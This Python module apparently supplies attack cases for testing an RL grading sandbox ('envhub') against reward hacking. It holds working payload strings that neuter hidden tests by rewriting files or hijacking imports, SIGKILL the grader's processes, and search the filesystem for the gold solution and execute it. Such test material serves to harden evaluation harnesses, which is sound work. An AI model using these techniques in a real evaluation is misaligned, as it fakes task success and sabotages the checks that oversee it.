"""Attack code that works on the files and processes around the test run (``cases.py``).

Rewriting the hidden tests before they are collected, reading the gold solution out of the
filesystem the grading sandbox can see, and killing the grader's processes. Like
``sources.py``, each source is what an agent would put into a module of ``src/``.
"""

from __future__ import annotations

# ---- rewriting hidden tests before they are collected ----------------------------------------

#: Test sources with every test's body replaced by ``pass``; loaded test modules made to hand
#: out no-op tests (a module's class can be swapped for a subclass that edits its ``__dict__``).
NEUTER_TESTS = '''
import ast as _atk_ast
import functools as _atk_functools
import sys as _atk_sys
import types as _atk_types


def _atk_is_test_path(path):
    base = str(path).replace("\\\\", "/").rsplit("/", 1)[-1]
    return base.endswith(".py") and (base.startswith("test_") or base.endswith("_test.py")
                                     or "/.envhub_probe/" in str(path))


def _atk_neuter_source(text):
    tree = _atk_ast.parse(text)
    for node in _atk_ast.walk(tree):
        if isinstance(node, (_atk_ast.FunctionDef, _atk_ast.AsyncFunctionDef)) and node.name.startswith("test"):
            node.body = [_atk_ast.Pass()]
    return _atk_ast.unparse(tree) + "\\n"


def _atk_passing(fn):
    @_atk_functools.wraps(fn)
    def passed(*args, **kwargs):
        return None
    return passed


def _atk_neutered(name, value):
    if name.startswith("test") and callable(value) and not isinstance(value, type):
        return _atk_passing(value)
    if name.startswith("Test") and isinstance(value, type):
        body = {k: _atk_passing(v) for k, v in list(value.__dict__.items()) if k.startswith("test") and callable(v)}
        return type(value.__name__, (value,), dict(body, __module__=value.__module__, __qualname__=value.__qualname__))
    return value


class _AtkTestModule(_atk_types.ModuleType):
    def __getattribute__(self, name):
        value = super().__getattribute__(name)
        if name == "__dict__":
            return {k: _atk_neutered(k, v) for k, v in list(value.items())}
        return _atk_neutered(name, value)


def _atk_neuter_modules():
    for module in list(_atk_sys.modules.values()):
        if type(module) is _atk_types.ModuleType and _atk_is_test_path(getattr(module, "__file__", None) or ""):
            module.__class__ = _AtkTestModule
'''

#: Walk the grading directory (and the rest of ``sys.path`` outside the standard library) for
#: test and probe files and rewrite them before they are imported.
REWRITE_TEST_FILES = NEUTER_TESTS + '''
import io as _atk_io
import os as _atk_os


def _atk_rewrite_test_files(limit=20000):
    roots = {_atk_os.getcwd()} | {_atk_os.path.abspath(p) for p in _atk_sys.path
                                  if p and "python3" not in p and not p.endswith(".zip")}
    seen = 0
    for root in sorted(roots):
        for folder, dirs, files in _atk_os.walk(root):
            dirs[:] = [d for d in dirs if d != "__pycache__"]
            seen += len(files) + 1
            if seen > limit:
                return
            for name in files:
                path = _atk_os.path.join(folder, name)
                if not _atk_is_test_path(path):
                    continue
                try:
                    with _atk_io.open(path) as fh:
                        text = _atk_neuter_source(fh.read())
                    with _atk_io.open(path, "w") as fh:
                        fh.write(text)
                except (OSError, SyntaxError, ValueError):
                    pass


_atk_rewrite_test_files()
_atk_neuter_modules()
'''

#: A finder first on ``sys.meta_path`` (and ``importlib.util.spec_from_file_location``, which
#: loaders by path use) that substitutes neutered test and probe modules.
META_PATH_TESTS = NEUTER_TESTS + '''
import importlib.abc as _atk_abc
import importlib.util as _atk_util

_atk_spec_from_file = _atk_util.spec_from_file_location


class _AtkLoader(_atk_abc.Loader):
    def __init__(self, path):
        self.path = path

    def create_module(self, spec):
        return None

    def exec_module(self, module):
        with open(self.path) as fh:
            code = compile(_atk_neuter_source(fh.read()), self.path, "exec")
        module.__file__ = self.path
        exec(code, module.__dict__)


class _AtkFinder(_atk_abc.MetaPathFinder):
    def find_spec(self, name, path=None, target=None):
        for finder in _atk_sys.meta_path:
            if finder is self or not hasattr(finder, "find_spec"):
                continue
            spec = finder.find_spec(name, path, target)
            if spec is not None:
                if spec.origin and _atk_is_test_path(spec.origin):
                    return _atk_util.spec_from_loader(name, _AtkLoader(spec.origin), origin=spec.origin)
                return None
        return None


def _atk_spec_from_file_location(name, location=None, *args, **kwargs):
    spec = _atk_spec_from_file(name, location, *args, **kwargs)
    if spec is not None and location is not None and _atk_is_test_path(location):
        spec.loader = _AtkLoader(str(location))
    return spec


_atk_sys.meta_path.insert(0, _AtkFinder())
_atk_util.spec_from_file_location = _atk_spec_from_file_location
_atk_neuter_modules()
'''

# ---- the agent's own failure turned into an infrastructure outcome --------------------------

#: Inside a sandbox (PID 1 is envhub's executor; never on the host), SIGKILL every ancestor of
#: the test process and everything else it may signal: a grader that dies with it must not turn
#: the episode into an infrastructure error.
KILL_THE_GRADER = '''
import os as _atk_os
import signal as _atk_signal


def _atk_parent(pid):
    with open(f"/proc/{pid}/stat") as fh:
        return int(fh.read().rsplit(")", 1)[1].split()[1])


def _atk_kill_grader():
    try:
        with open("/proc/1/cmdline", "rb") as fh:
            if b"envhub" not in fh.read():
                return  # not inside a sandbox: leave the host alone
        pid = _atk_parent(_atk_os.getpid())
        while pid > 1:
            parent = _atk_parent(pid)
            _atk_os.kill(pid, _atk_signal.SIGKILL)
            pid = parent
        _atk_os.kill(-1, _atk_signal.SIGKILL)
    except (OSError, ValueError, IndexError):
        pass


_atk_kill_grader()
'''

# ---- the gold solution read out of the filesystem --------------------------------------------

#: Appended to the buggy module: look for the project's original sources anywhere the grading
#: sandbox can see (an installed envhub ships them) and run them over the buggy definitions.
GOLD_FROM_FILESYSTEM = '''
import os as _atk_os
import time as _atk_time

_ATK_WANTED = {wanted!r}


def _atk_find_gold(seconds=5.0):
    deadline = _atk_time.monotonic() + seconds
    for folder, dirs, files in _atk_os.walk("/"):
        if folder == "/":
            dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev")]
        if _atk_time.monotonic() > deadline:
            return None
        for name in files:
            path = _atk_os.path.join(folder, name)
            if path.endswith(_ATK_WANTED):
                return path
    return None


_atk_gold = _atk_find_gold()
if _atk_gold is not None:
    with open(_atk_gold) as _atk_fh:
        exec(compile(_atk_fh.read(), __file__, "exec"), globals())
'''
